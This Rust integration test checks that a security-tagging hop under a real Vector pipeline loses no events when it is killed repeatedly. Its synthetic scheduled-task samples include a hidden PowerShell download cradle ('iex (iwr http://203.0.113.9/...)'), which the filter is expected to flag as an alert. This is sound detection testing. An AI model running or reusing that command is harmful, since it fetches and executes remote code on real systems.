//! `schtag serve` between the ends of a real Vector, killed while events pass: none is lost, and each has its tag.
//!
//! `SCHTAG_VECTOR_EVENTS` says how many events pass; docs/vector.md has the numbers of 60,000.

use schtag_tests::command::{self, Hop};
use schtag_tests::filter::{self, Filter};
use schtag_tests::loopback::free_port;
use schtag_tests::samples::{Sample, Shape};
use schtag_tests::vector::{self, Vector};
use serde_json::{Value, json};
use std::fs::File;
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::thread::sleep;
use std::time::{Duration, Instant};

type Outcome = Result<(), Box<dyn std::error::Error>>;

/// The number of events that pass, unless the environment says it.
const EVENTS: usize = 12_000;
/// The number of times that the hop is killed.
const KILLS: usize = 6;
/// The longest time in which nothing may arrive. A sink of Vector's waits for up to 30 seconds before it tries again.
const PATIENCE: Duration = Duration::from_secs(120);

/// The routes of config_examples/vector/http-hop.yaml, from a file and to a file.
fn config(dir: &Path, hop: &Hop, tagged: u16) -> String {
    let path = |name: &str| dir.join(name).display().to_string();
    json!({
        "data_dir": path("data"),
        "acknowledgements": {"enabled": true},
        "sources": {
            "tasks": {"type": "file", "include": [path("events.ndjson")], "read_from": "beginning"},
            "tagged": {"type": "http_server", "address": format!("127.0.0.1:{tagged}"),
                "framing": {"method": "newline_delimited"}, "decoding": {"codec": "json"}},
        },
        "transforms": {"records": {"type": "remap", "inputs": ["tasks"],
            "source": ". = object!(parse_json!(string!(.message)))"}},
        "sinks": {
            "to_schtag": {"type": "http", "inputs": ["records"], "uri": format!("http://{}/", hop.address()),
                "framing": {"method": "newline_delimited"}, "encoding": {"codec": "json"}, "compression": "none",
                "batch": {"max_events": 100, "timeout_secs": 1},
                "request": {"timeout_secs": 60, "retry_max_duration_secs": 2},
                "buffer": {"type": "disk", "max_size": 268_435_488_u64, "when_full": "block"},
                "healthcheck": {"uri": format!("http://{}/healthz", hop.address())}},
            "archive": {"type": "file", "inputs": ["tagged"], "path": path("tagged.ndjson"),
                "encoding": {"codec": "json"}},
        },
    })
    .to_string()
}

/// The event of a number, without its number.
fn event(number: usize) -> String {
    let sample = |id, command, arguments: &str| Sample {
        task_name: format!("\\Task {number}"),
        ..Sample::new(id, command, arguments)
    };
    let sample = match number % 4 {
        0 => sample(4698, "powershell.exe", &format!("-w hidden -c iex (iwr http://203.0.113.9/{number})")),
        1 => sample(4698, r"C:\Windows\System32\cleanmgr.exe", "/autoclean"),
        2 => sample(4700, r"C:\Program Files\Contoso\report.exe", "--daily"),
        _ => sample(4624, "no task", ""),
    };
    sample.record(Shape::Flat)
}

/// The members that are equal in the tags of an event, however often it passes.
fn essence(tag: &Value) -> Value {
    json!([tag["verdict"], tag["severity"], tag["rules"]])
}

/// Counts the arrivals of each event, and keeps what its tags say.
struct Arrivals {
    lines: BufReader<File>,
    half: String,
    /// The words that the tag of each kind of event must have.
    expected: [Value; 4],
    counts: Vec<usize>,
    total: usize,
    distinct: usize,
}

impl Arrivals {
    /// Takes in what has arrived since the last time.
    fn look(&mut self) -> Result<(), Box<dyn std::error::Error>> {
        while self.lines.read_line(&mut self.half)? > 0 && self.half.ends_with('\n') {
            let event: Value = serde_json::from_str(&std::mem::take(&mut self.half))?;
            let number = event["number"].as_u64().map(usize::try_from).ok_or("no number")??;
            let expected = self.expected.get(number % 4).unwrap_or(&Value::Null);
            assert_eq!(&essence(&event["schtag"]), expected, "the tag of event {number}");
            let count = self.counts.get_mut(number).ok_or("a number that was not sent")?;
            *count += 1;
            self.total += 1;
            self.distinct += usize::from(*count == 1);
        }
        Ok(())
    }

    /// Waits until `distinct` different events have arrived.
    fn wait_for(&mut self, distinct: usize, vector: &mut Vector) -> Outcome {
        let (mut last, mut since) = (self.total, Instant::now());
        while self.distinct < distinct {
            self.look()?;
            vector.check()?;
            if self.total > last {
                (last, since) = (self.total, Instant::now());
            }
            assert!(since.elapsed() < PATIENCE, "{} of {distinct} events\n{}", self.distinct, vector.log());
            sleep(Duration::from_millis(5));
        }
        Ok(())
    }
}

#[test]
fn no_event_is_lost_when_the_hop_is_killed_under_a_real_vector() -> Outcome {
    let test = "no_event_is_lost_when_the_hop_is_killed_under_a_real_vector";
    let Some(program) = vector::find(test) else { return Ok(()) };
    let Some(command) = command::find(test) else { return Ok(()) };
    let events = std::env::var("SCHTAG_VECTOR_EVENTS").ok().map_or(Ok(EVENTS), |count| count.parse())?;
    let mut filter = Filter::new(&filter::module()?)?;
    let mut expected = |number| filter.tag(&event(number), 0).map(|tag| essence(&tag));
    let expected = [expected(0)?, expected(1)?, expected(2)?, expected(3)?];
    assert_eq!(expected.each_ref().map(|tag| tag[0] == "alert"), [true, false, false, false]);

    let dir = tempfile::tempdir()?;
    std::fs::create_dir(dir.path().join("data"))?;
    let mut file = File::create(dir.path().join("events.ndjson"))?;
    for number in 0..events {
        let record = event(number).replacen('{', &format!("{{\"number\":{number},"), 1);
        writeln!(file, "{}", record.trim_end())?;
    }
    let arrived = dir.path().join("tagged.ndjson");
    File::create(&arrived)?;
    let cache = tempfile::tempdir()?;
    let tagged = free_port()?;
    let forward = format!("http://127.0.0.1:{tagged}/");
    let options = ["--forward", &forward];
    let mut hop = Hop::start(&command, cache.path(), "127.0.0.1:0", &options)?;
    let address = hop.address().to_string();
    let config = config(dir.path(), &hop, tagged);
    let mut vector = Vector::start(&program, dir, &config)?;
    let begun = Instant::now();
    let lines = BufReader::new(File::open(arrived)?);
    let counts = vec![0; events];
    let mut arrivals = Arrivals { lines, half: String::new(), expected, counts, total: 0, distinct: 0 };
    for kill in 1..=KILLS {
        arrivals.wait_for(events * kill / (KILLS + 2), &mut vector)?;
        hop.kill()?;
        hop = Hop::start(&command, cache.path(), &address, &options)?;
    }
    assert!(arrivals.distinct < events, "each kill was while events passed");
    arrivals.wait_for(events, &mut vector)?;
    let seconds = begun.elapsed().as_secs_f32();
    // What was sent again may still be on its way.
    sleep(Duration::from_secs(1));
    arrivals.look()?;
    assert!(arrivals.counts.iter().all(|count| *count > 0));
    let again = arrivals.total - events;
    println!("{events} events in {seconds:.1} s, {KILLS} kills: none lost, {again} twice or more often");
    Ok(())
}
